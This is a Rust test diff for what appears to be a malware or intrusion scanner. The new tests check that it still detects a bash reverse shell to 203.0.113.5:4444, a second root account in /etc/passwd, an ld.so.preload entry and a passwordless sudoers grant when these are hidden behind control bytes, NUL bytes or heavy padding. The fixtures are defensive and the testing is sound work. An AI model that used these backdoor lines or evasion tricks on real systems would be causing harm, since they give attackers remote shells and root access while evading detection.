@@ -333,3 +333,56 @@ proptest! {
         examine(&facts(&path, 0o755, content.as_bytes()), content.as_bytes(), &mut out);
     }
 }
+
+#[test]
+fn a_control_byte_does_not_hide_a_script_or_a_file_that_some_program_reads() {
+    let shell = "#!/bin/bash\necho hi\n#\u{1}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";
+    assert!(rules_of("opt/run", 0o755, shell.as_bytes()).contains("reverse-shell"));
+    let nul = shell.replace('\u{1}', "\0");
+    assert!(rules_of("opt/run", 0o755, nul.as_bytes()).contains("reverse-shell"));
+    let padded = format!("#!/bin/bash\n#{}\n{shell}", "\u{1}".repeat(2000));
+    assert!(rules_of("opt/run", 0o755, padded.as_bytes()).contains("reverse-shell"));
+    // Without a first line of its own, a small share of such bytes.
+    let bare = shell.replacen("#!/bin/bash\n", "", 1);
+    assert!(rules_of("opt/run.sh", 0o755, bare.as_bytes()).contains("reverse-shell"));
+    for (path, content, rule) in [
+        (
+            "etc/passwd",
+            "toor:x:0:0::/root:/bin/sh\n",
+            "second-root-account",
+        ),
+        ("etc/ld.so.preload", "/usr/lib/libx.so\n", "preload-file"),
+        (
+            "etc/sudoers.d/x",
+            "www-data ALL=(ALL) NOPASSWD: ALL\n",
+            "sudo-without-password",
+        ),
+    ] {
+        for odd in ["#\u{1}\n", "#\u{1}\u{2}\u{3}\u{1}\u{2}\u{3}\n", "#\0\n"] {
+            let content = format!("{odd}{content}");
+            let found = rules_of(path, 0o644, content.as_bytes());
+            assert!(found.contains(rule), "{path} {odd:?}: {found:?}");
+        }
+    }
+}
+
+#[test]
+fn a_script_is_read_at_both_ends_however_much_stands_between_them() {
+    let line = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";
+    let padding = "# padding\n".repeat(text::TEXT_CAP / 8);
+    for (path, content) in [
+        ("opt/run", format!("#!/bin/bash\n{line}{padding}")),
+        ("opt/run", format!("#!/bin/bash\n{padding}{line}")),
+        ("opt/run.sh", format!("{padding}{line}")),
+    ] {
+        let found = rules_of(path, 0o755, content.as_bytes());
+        assert!(found.contains("reverse-shell"), "{path}: {found:?}");
+    }
+    let passwd = format!("{padding}toor:x:0:0::/root:/bin/sh\n");
+    let evidence = evidence("etc/passwd", 0o644, passwd.as_bytes());
+    let offset = evidence.into_iter().find_map(|item| match item {
+        EvidenceItem::Suspicion(suspicion) => suspicion.offset,
+        _ => None,
+    });
+    assert_eq!(offset, Some(padding.len() as u64));
+}
